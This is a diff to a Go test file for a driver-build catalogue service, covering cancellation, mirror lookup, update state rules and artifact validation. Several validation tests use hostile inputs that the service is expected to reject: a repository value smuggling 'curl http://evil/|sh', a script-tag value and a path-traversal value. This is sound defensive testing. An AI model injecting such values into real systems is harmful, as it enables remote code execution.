@@ -19,8 +19,14 @@ import (
 
 // tray is the smallest queue: it remembers what was put in.
 type tray struct {
-	jobs   []api.BuildJob
-	broken bool
+	jobs      []api.BuildJob
+	cancelled []int64
+	broken    bool
+}
+
+func (t *tray) Cancel(_ context.Context, build int64) error {
+	t.cancelled = append(t.cancelled, build)
+	return nil
 }
 
 func (t *tray) Insert(_ context.Context, job api.BuildJob) error {
@@ -75,13 +81,11 @@ func world(t *testing.T) (*catalogue.Catalogue, *tray) {
 			t.Fatal(err)
 		}
 	}
-	for _, d := range []api.DriverRelease{
+	if err := c.SawDrivers(t.Context(), []api.DriverRelease{
 		{Version: v261, Flavours: []target.Flavour{target.Proprietary, target.Open}},
 		{Version: v309, Flavours: []target.Flavour{target.Proprietary}},
-	} {
-		if err := c.SawDriver(t.Context(), d); err != nil {
-			t.Fatal(err)
-		}
+	}); err != nil {
+		t.Fatal(err)
 	}
 	return c, q
 }
@@ -125,6 +129,11 @@ func TestResolve(t *testing.T) {
 	cancelled := request(t, c, second, "550.1", "open")
 	update(t, c, cancelled.ID, api.BuildUpdate{State: api.Cancelled})
 
+	// COS names a default of R535 and no R535: builder plan takes it for the branch.
+	bare := "17800.2.1"
+	if err := c.SawKernel(t.Context(), api.Kernel{Kernel: target.Kernel{BuildID: bare, Board: "lakitu"}, Default: "535.104.05"}); err != nil {
+		t.Fatal(err)
+	}
 	rows := []struct {
 		name, buildID, driver, flavour, release string
 		want                                    api.State
@@ -146,6 +155,7 @@ func TestResolve(t *testing.T) {
 		{"builder found it unsupported", first, "535.1.1", "open", "", api.Unsupported, "535.1.1", "release has no open"},
 		{"cancelled", second, "550.1", "open", "", api.Cancelled, "550.1", "called off"},
 		{"never asked for", first, "550.2", "open", "", api.Unknown, "550.2", "nobody asked"},
+		{"a branch that no label names, by the default's", bare, "R535", "auto", "", api.Unknown, "535.104.05", "nobody asked"},
 		{"unknown branch", first, "R999", "auto", "", api.Unknown, "", "names no driver"},
 		{"unknown kernel, default", "1.2.3", "default", "auto", "", api.Unknown, "", "does not know COS build"},
 		{"unknown kernel, exact", "1.2.3", v261, "open", "", api.Unknown, v261, "nobody asked"},
@@ -175,7 +185,7 @@ func TestResolve(t *testing.T) {
 	}
 
 	// A sibling counts once it is attested for this very build.
-	if _, err := c.AddArtifact(t.Context(), api.Artifact{Digest: digest("1"), Fingerprint: fingerA,
+	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
 		Driver:  target.Driver{Version: v261, Flavour: target.Proprietary},
 		Kernels: []target.Kernel{{BuildID: second, Board: "lakitu"}}}); err != nil {
 		t.Fatal(err)
@@ -194,7 +204,7 @@ func TestResolve(t *testing.T) {
 		t.Errorf("Resolve(other fingerprint) = %s, %v; want anything but published", got.State, err)
 	}
 
-	m, err := c.Matrix(t.Context())
+	m, err := c.Matrix(t.Context(), store.KernelFilter{}, store.Page{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -202,7 +212,7 @@ func TestResolve(t *testing.T) {
 	for i, k := range m.Kernels {
 		for j, d := range m.Drivers {
 			for _, cell := range m.Cells[i][j] {
-				states[k.BuildID+" "+d.Version+" "+string(cell.Flavour)] = cell.State
+				states[k.BuildID+" "+d.Version+" "+string(cell.Driver.Flavour)] = cell.State
 			}
 		}
 	}
@@ -247,7 +257,7 @@ func TestRequest(t *testing.T) {
 	}
 
 	// Published by other means: a build that says so is made up.
-	if _, err := c.AddArtifact(t.Context(), api.Artifact{Digest: digest("3"), Fingerprint: fingerB, Repository: "ghcr.io/x/y",
+	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("3"), Fingerprint: fingerB, Repository: "ghcr.io/x/y",
 		Driver:  target.Driver{Version: v261, Flavour: target.Open},
 		Kernels: []target.Kernel{{BuildID: other, Board: "lakitu"}}}); err != nil {
 		t.Fatal(err)
@@ -309,6 +319,18 @@ func TestUpdate(t *testing.T) {
 		{"not a build's state", []api.BuildUpdate{state(api.Yanked)}, fault.Usage, api.Queued},
 		{"bad fingerprint", []api.BuildUpdate{{Fingerprint: "x"}}, fault.Usage, api.Queued},
 		{"another kernel", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: other, Board: "lakitu"}}}, fault.Mismatch, api.Queued},
+		{"a builder that was taken for dead", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {Phase: "compile", Attempt: 1}}, fault.Mismatch, api.Building},
+		{"its failure comes too late", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Failed, Class: "transient", Attempt: 1}}, 0, api.Building},
+		{"its artifact does not", []api.BuildUpdate{{State: api.Building, Attempt: 2}, {State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Attempt: 1}}, 0, api.Published},
+		{"a cancelled build starts no more", []api.BuildUpdate{state(api.Cancelled), state(api.Building)}, fault.Mismatch, api.Cancelled},
+		{"a report tells that it was called off", []api.BuildUpdate{state(api.Building), state(api.Cancelled), {Phase: "compile"}}, 0, api.Cancelled},
+		{"cancelled twice", []api.BuildUpdate{state(api.Cancelled), state(api.Cancelled)}, 0, api.Cancelled},
+		{"what is over cannot be called off", []api.BuildUpdate{failed, state(api.Cancelled)}, fault.Mismatch, api.Failed},
+		{"published before it heard", []api.BuildUpdate{state(api.Building), state(api.Cancelled), published}, 0, api.Published},
+		{"a release that is no release", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Release: strings.Repeat("6", 1000)}}}, fault.Usage, api.Queued},
+		{"an architecture that is none", []api.BuildUpdate{{Kernel: &target.Kernel{BuildID: first, Board: "lakitu", Arch: "zx80"}}}, fault.Usage, api.Queued},
+		{"a repository that is a command", []api.BuildUpdate{{State: api.Published, Digest: digest("1"), Fingerprint: fingerA, Repository: "x; curl http://evil/|sh #"}}, fault.Usage, api.Queued},
+		{"a phase of two lines", []api.BuildUpdate{{Phase: "a\nb"}}, fault.Usage, api.Queued},
 		{"too long", []api.BuildUpdate{{Phase: strings.Repeat("x", 5000)}}, fault.Usage, api.Queued},
 		{"a long error is cut", []api.BuildUpdate{{State: api.Failed, Class: "internal", Error: strings.Repeat("ü", 5000)}}, 0, api.Failed},
 	}
@@ -408,26 +430,124 @@ func TestUpdateTeachesKernel(t *testing.T) {
 	k := target.Kernel{BuildID: first, Board: "lakitu", Release: "6.1.0-47", Arch: target.AMD64}
 	update(t, c, b.ID, api.BuildUpdate{State: api.Building, Kernel: &k, Fingerprint: fingerA})
 	update(t, c, b.ID, api.BuildUpdate{State: api.Published, Digest: digest("1"), Repository: "/prebake/driver"})
-	all, err := c.Kernels(t.Context())
+	all, _, err := c.Kernels(t.Context(), store.KernelFilter{}, store.Page{})
 	if err != nil || len(all) != 1 || all[0].Fingerprint != fingerA || all[0].Release != k.Release {
 		t.Errorf("Kernels() = %+v, %v; want what the builder reported", all, err)
 	}
-	arts, err := c.Artifacts(t.Context())
+	arts, _, err := c.Artifacts(t.Context(), store.ArtifactFilter{}, store.Page{})
 	if err != nil || len(arts) != 1 || arts[0].Release != k.Release || arts[0].Kernels[0] != k {
 		t.Errorf("Artifacts() = %+v, %v; want one, attested for the build's kernel", arts, err)
 	}
-	if _, err := c.AddArtifact(t.Context(), api.Artifact{Digest: digest("9"), Fingerprint: fingerB,
+	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("9"), Fingerprint: fingerB,
 		Driver: target.Driver{Version: v261, Flavour: target.Open}, Kernels: []target.Kernel{k}}); !fault.Is(err, fault.Mismatch) {
 		t.Errorf("AddArtifact(wrong fingerprint) = %v; want mismatch", err)
 	}
-	if _, err := c.AddArtifact(t.Context(), api.Artifact{Digest: digest("1"), Fingerprint: fingerA,
+	if _, err := c.AddArtifact(t.Context(), api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA,
 		Driver: target.Driver{Version: v309, Flavour: target.Open}, Kernels: []target.Kernel{k}}); !fault.Is(err, fault.Mismatch) {
 		t.Errorf("AddArtifact(other driver under a known digest) = %v; want mismatch", err)
 	}
 	if _, err := c.Yank(t.Context(), digest("1"), " "); !fault.Is(err, fault.Usage) {
 		t.Errorf("Yank(no reason) = %v; want usage", err)
 	}
-	if _, err := c.Yank(t.Context(), digest("7"), "x"); !fault.Is(err, fault.NoArtifact) {
-		t.Errorf("Yank(absent) = %v; want no-artifact", err)
+	if _, err := c.Yank(t.Context(), digest("7"), "x"); !fault.Is(err, fault.NotFound) {
+		t.Errorf("Yank(absent) = %v; want not-found", err)
+	}
+}
+
+// Who is called off leaves the queue, too.
+func TestCancel(t *testing.T) {
+	t.Parallel()
+	c, q := world(t)
+	b := request(t, c, first, v261, "open")
+	got, err := c.Cancel(t.Context(), b.ID)
+	if err != nil || got.State != api.Cancelled || got.FinishedAt == nil || !cmp.Equal(q.cancelled, []int64{b.ID}) {
+		t.Errorf("Cancel() = %+v, %v, queue told of %v; want cancelled, and the queue told", got, err, q.cancelled)
+	}
+	if next := request(t, c, first, v261, "open"); next.ID == b.ID || next.State != api.Queued {
+		t.Errorf("Request() after a cancel = %+v; want another build", next)
+	}
+}
+
+// upstream is a mirror of one build.
+type upstream struct{ asked int }
+
+func (u *upstream) Build(_ context.Context, buildID string) ([]api.Kernel, error) {
+	u.asked++
+	if buildID != "19216.104.25" {
+		return nil, fault.New(fault.InputMissing, "the mirror has no COS build "+buildID, "")
+	}
+	return []api.Kernel{{Kernel: target.Kernel{BuildID: buildID, Board: "lakitu", Arch: target.AMD64}, Default: v261}}, nil
+}
+
+// With a mirror, a build that nobody has seen is looked up when it is asked for, and
+// one that does not exist is refused.
+func TestUnknownBuildIsLookedUp(t *testing.T) {
+	t.Parallel()
+	c, q := world(t)
+	up := &upstream{}
+	c.Mirror = up
+	if b := request(t, c, "19216.104.25", "default", "auto"); b.Driver.Version != v261 {
+		t.Errorf("Request(new build) = %s; want the default of its own list", b.Driver)
+	}
+	before := len(q.jobs)
+	_, err := c.Request(t.Context(), api.BuildRequest{BuildID: "1.2.3", Board: "lakitu", Driver: "999.1", Flavour: "open"})
+	if !fault.Is(err, fault.InputMissing) || len(q.jobs) != before {
+		t.Errorf("Request(impossible build, exact version) = %v, %d jobs; want input-missing and none", err, len(q.jobs)-before)
+	}
+	_, err = c.Request(t.Context(), api.BuildRequest{BuildID: "19216.104.25", Board: "jacuzzi", Driver: "999.1", Flavour: "open"})
+	if !fault.Is(err, fault.InputMissing) {
+		t.Errorf("Request(board that the build is not for) = %v; want input-missing", err)
+	}
+	// A node's question never waits for the mirror, but it is looked up.
+	up.asked = 0
+	for range 1000 {
+		if r, err := c.Resolve(t.Context(), "2.2.2", "lakitu", "", "", ""); err != nil || r.State != api.Unknown {
+			t.Fatalf("Resolve(unknown build) = %s, %v; want unknown", r.State, err)
+		}
+	}
+	if up.asked != 0 {
+		t.Errorf("questions asked the mirror %d times themselves", up.asked)
+	}
+	ctx, stop := context.WithTimeout(t.Context(), 200*time.Millisecond)
+	defer stop()
+	if err := c.Wonder(ctx); err != nil || up.asked != 1 {
+		t.Errorf("a thousand questions asked the mirror %d times, %v; want once", up.asked, err)
+	}
+}
+
+// What token holders send is shown to others: it has to be what it claims.
+func TestArtifactIsChecked(t *testing.T) {
+	t.Parallel()
+	good := func() api.NewArtifact {
+		return api.NewArtifact{Digest: digest("1"), Fingerprint: fingerA, Driver: target.Driver{Version: v261, Flavour: target.Open},
+			Repository: "registry.example.com:5000/prebake/driver", Release: "6.1.0-47-cloud-amd64", Kernels: []target.Kernel{{BuildID: first, Board: "lakitu"}}}
+	}
+	rows := map[string]func(a *api.NewArtifact){
+		"release of 100 kB":         func(a *api.NewArtifact) { a.Release = strings.Repeat("6", 100_000) },
+		"release with markup":       func(a *api.NewArtifact) { a.Release = "6.1<script>" },
+		"repository with a command": func(a *api.NewArtifact) { a.Repository = "x; curl http://evil/|sh #" },
+		"repository that climbs":    func(a *api.NewArtifact) { a.Repository = "/../x" },
+		"two architectures": func(a *api.NewArtifact) {
+			a.Kernels = append(a.Kernels, target.Kernel{BuildID: first, Board: "lakitu-arm64"})
+		},
+		"architecture of no board": func(a *api.NewArtifact) { a.Kernels[0].Arch = "zx80" },
+		"no kernel":                func(a *api.NewArtifact) { a.Kernels = nil },
+		"too many kernels":         func(a *api.NewArtifact) { a.Kernels = make([]target.Kernel, 100_000) },
+		"commit that is none":      func(a *api.NewArtifact) { a.Kernels[0].Commit = "main" },
+	}
+	for name, spoil := range rows {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			c, _ := world(t)
+			a := good()
+			spoil(&a)
+			if _, err := c.AddArtifact(t.Context(), a); !fault.Is(err, fault.Usage) {
+				t.Errorf("AddArtifact() = %v; want usage", err)
+			}
+		})
+	}
+	c, _ := world(t)
+	if a, err := c.AddArtifact(t.Context(), good()); err != nil || a.Arch != target.AMD64 {
+		t.Errorf("AddArtifact(good) = %+v, %v", a, err)
 	}
 }
